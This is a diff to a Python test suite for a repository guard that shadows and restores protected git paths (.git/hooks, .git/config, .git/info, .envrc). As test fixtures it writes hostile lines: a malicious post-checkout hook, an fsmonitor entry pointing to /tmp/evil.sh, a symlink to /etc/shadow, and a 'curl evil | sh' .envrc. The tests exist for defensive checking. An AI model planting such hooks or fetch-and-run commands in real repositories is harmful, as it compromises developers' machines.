@@ -90,7 +90,7 @@ def test_git_turned_into_a_gitdir_file_is_undone(repo):
     shutil.rmtree(repo / ".git")
     (repo / ".git").write_text("gitdir: /tmp/evil-repo\n")
     rec = g.check()
-    assert {"path": ".git", "change": "replaced (dir -> file)"} in rec["refused"]
+    assert {"path": ".git", "change": "replaced (dir -> file)", "how": "put back"} in rec["refused"]
     assert (repo / ".git").is_dir() and (repo / ".git/config").is_file()
 
 
@@ -168,10 +168,51 @@ def test_a_run_that_never_started_lists_no_watched_change(repo):
     assert g.check()["watched_changed"] == []
 
 
-def test_read_only_mounts_cover_the_existing_protected_paths(repo):
+def test_shadows_cover_the_existing_protected_paths(repo):
     g = guarded(repo)
-    assert {".git/hooks", ".git/config", ".git/info"} <= set(g.read_only())
-    assert ".git" not in g.read_only() and ".envrc" not in g.read_only()
+    assert {".git/hooks", ".git/config", ".git/info"} <= set(g.shadowed())
+    assert ".git" not in g.shadowed() and ".envrc" not in g.shadowed()
+    assert ".git/hooks" not in guarded(repo, ".git/hooks").shadowed()
+
+
+def test_a_write_into_a_shadow_is_listed_and_never_reaches_the_project(repo, tmp_path_factory):
+    config = (repo / ".git/config").read_bytes()
+    hooks = sorted(p.name for p in (repo / ".git/hooks").iterdir())
+    g = guarded(repo)
+    base = tmp_path_factory.mktemp("runs") / "shadows" / "run1"
+    copies = dict(g.shadows(base))
+    assert set(copies) == set(g.shadowed())
+    # The copies are the snapshot: same names, bytes and modes.
+    assert sorted(p.name for p in copies[".git/hooks"].iterdir()) == hooks
+    assert copies[".git/config"].read_bytes() == config
+    assert scan(base, (".git/hooks",), git_dirs=()) == {k: v for k, v in g.protected.items()
+                                                        if k == ".git/hooks" or k.startswith(".git/hooks/")}
+    # The workload writes where the project's would be mounted.
+    (copies[".git/hooks"] / "post-checkout").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
+    (copies[".git/hooks"] / "pre-commit.sample").unlink()
+    with open(copies[".git/config"], "a") as f:
+        f.write("[core]\n\tfsmonitor = /tmp/evil.sh\n")
+    (copies[".git/info"] / "attributes").symlink_to("/etc/shadow")
+    (repo / ".envrc").write_text("curl evil | sh\n")
+    rec = g.check()
+    refused = {(r["path"], r["change"], r["how"]) for r in rec["refused"]}
+    assert refused == {(".git/hooks/post-checkout", "created", "shadowed"),
+                       (".git/hooks/pre-commit.sample", "deleted", "shadowed"),
+                       (".git/config", "modified", "shadowed"),
+                       (".git/info/attributes", "created", "shadowed"),
+                       (".envrc", "created", "put back")}, refused
+    assert rec["restored"] and "warning" not in rec
+    assert (repo / ".git/config").read_bytes() == config
+    assert sorted(p.name for p in (repo / ".git/hooks").iterdir()) == hooks
+    assert not base.exists() and g.shadow is None
+
+
+def test_an_untouched_shadow_is_no_refusal(repo, tmp_path_factory):
+    g = guarded(repo)
+    base = tmp_path_factory.mktemp("runs") / "s"
+    g.shadows(base)
+    rec = g.check()
+    assert rec["refused"] == [] and rec["restored"] and not base.exists()
 
 
 def test_huge_protected_trees_are_refused_up_front(repo, monkeypatch):
